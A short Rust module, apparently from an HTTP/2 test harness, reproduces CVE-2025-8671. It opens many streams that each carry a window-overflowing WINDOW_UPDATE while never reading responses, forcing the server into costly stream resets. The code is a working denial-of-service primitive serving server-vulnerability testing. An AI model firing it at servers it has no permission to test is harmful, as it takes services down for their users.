//! Streams that the server has to reset for what the peer does on them (CVE-2025-8671): they count as open no more, each
//! costs the server a call and a frame, and nobody reads those.

use std::net::SocketAddr;

use super::{Blocks, Wire};
use crate::peer::h2::{Frame, kind};

/// Opens up to `count` streams, each with a window that overflows, without reading a byte. The connection, as it is then, and
/// how many of them the server took.
pub async fn run(address: SocketAddr, path: &str, count: u32) -> (Wire, usize) {
    let mut wire = Wire::http2_deaf(address, &[]).await;
    let mut blocks = Blocks::new(path);
    let mut bytes = Vec::new();
    for stream in (1..).step_by(2).take(count as usize) {
        let open = Frame::new(kind::HEADERS, END_HEADERS, stream, blocks.block());
        bytes.extend_from_slice(&open.encode());
        let overflow = Frame::new(kind::WINDOW_UPDATE, 0, stream, LARGEST);
        bytes.extend_from_slice(&overflow.encode());
    }
    let sent = wire.send_deaf(&bytes).await;
    let taken = count as usize * sent / bytes.len();
    (wire, taken)
}

const END_HEADERS: u8 = 4;
const LARGEST: &[u8] = &[0x7f, 0xff, 0xff, 0xff];
